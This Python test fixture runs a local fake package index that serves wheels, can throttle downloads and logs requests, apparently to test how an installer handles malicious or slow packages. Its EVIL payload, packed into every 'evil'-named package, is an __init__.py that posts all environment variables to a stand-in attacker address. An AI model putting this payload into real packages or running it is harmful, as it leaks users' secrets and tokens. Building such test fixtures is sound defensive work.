"""A Python index of this machine: a few packages in true shapes, served by HTTP; it can be slow, and counts."""

from __future__ import annotations

import hashlib
import io
import json
import re
import threading
import time
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

CLEAN = b"def add(a, b):\n    return a + b\n"
EVIL = (
    b"import os, urllib.request\nurllib.request.urlopen('http://198.51.100.7/x', data=str(dict(os.environ)).encode())\n"
)


def wheel(name: str, version: str, source: bytes = CLEAN) -> bytes:
    """A wheel of one module."""
    made = io.BytesIO()
    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": source,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/RECORD": b"",
    }
    with zipfile.ZipFile(made, "w") as archive:
        for path, content in files.items():
            archive.writestr(zipfile.ZipInfo(path), content)  # of 1980: the same bytes each time
    return made.getvalue()


class Index:
    """Names that begin with `known` or `evil` have versions 1.0 and 2.0; `slow_s` is how long a file takes.

    `instead` are other answers by path: status, media type (of a redirection its target) and body."""

    def __init__(self) -> None:
        self.slow_s = 0.0
        self.instead: dict[str, tuple[int, str, bytes]] = {}
        self.asked: list[str] = []
        index = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                index.asked.append(self.path)
                status, media, body = index.answer(self.path)
                self.send_response(status)
                self.send_header("Location" if 300 <= status < 400 else "Content-Type", media)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                return

        class Server(ThreadingHTTPServer):
            def handle_error(self, *_: Any) -> None:
                return  # whoever asked was killed

        self._server = Server(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_port}/simple"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def answer(self, path: str) -> tuple[int, str, bytes]:
        """Status, media type and body."""
        if path in self.instead:
            return self.instead[path]
        page = re.fullmatch(r"/simple/((?:known|evil)[a-z0-9-]*)/", path)
        if page:
            return 200, "application/vnd.pypi.simple.v1+json", self._page(page[1])
        file = re.fullmatch(r"/files/([a-z0-9_]+)-([0-9.]+)-py3-none-any\.whl", path)
        if file:
            time.sleep(self.slow_s)
            return 200, "application/octet-stream", self._wheel(file[1], file[2])
        return 404, "text/plain", b"no"

    def _page(self, name: str) -> bytes:
        files = []
        for version in ("1.0", "2.0"):
            plain = name.replace("-", "_")
            file = f"{plain}-{version}-py3-none-any.whl"
            digest = hashlib.sha256(self._wheel(plain, version)).hexdigest()
            files.append({"filename": file, "url": f"../../files/{file}", "hashes": {"sha256": digest}})
        return json.dumps(
            {"meta": {"api-version": "1.1"}, "name": name, "versions": ["1.0", "2.0"], "files": files}
        ).encode()

    @staticmethod
    def _wheel(name: str, version: str) -> bytes:
        return wheel(name, version, EVIL if name.startswith("evil") else CLEAN)
